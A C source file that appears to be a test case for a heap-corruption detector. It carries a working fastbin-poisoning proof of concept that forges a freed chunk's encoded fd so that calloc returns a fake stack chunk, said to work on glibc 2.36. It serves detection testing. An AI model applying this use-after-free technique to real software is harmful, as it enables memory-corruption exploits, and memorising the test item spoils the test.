/* SPDX-License-Identifier: MIT */
/* Fastbin poisoning (fastbin_dup_into_stack without the double free):
 * with the 0x40 tcache bin full, overwrite a fastbin chunk's encoded fd
 * with a fake stack chunk of size 0x40; the second calloc returns it.
 * EXPECT-FULL: write-after-free,freelist-corruption
 * EXPECT-FAST: freelist-corruption
 * glibc 2.36: attack succeeds. */
#include "corpus.h"

int main(void)
{
	size_t fake[12] __attribute__((aligned(16))) = {0, 0x41};
	void *t[7];
	for (int i = 0; i < 7; i++)
		t[i] = malloc(0x38);
	size_t *a = malloc(0x38);
	for (int i = 0; i < 7; i++)
		free(t[i]);
	free(a);				  /* fastbin */
	a[0] = (size_t)corpus_protect(a, fake);	  /* the forged fd */
	void *x = calloc(1, 0x38), *y = calloc(1, 0x38);
	corpus_sink = x;
	return corpus_result(y == (void *)&fake[2]);
}
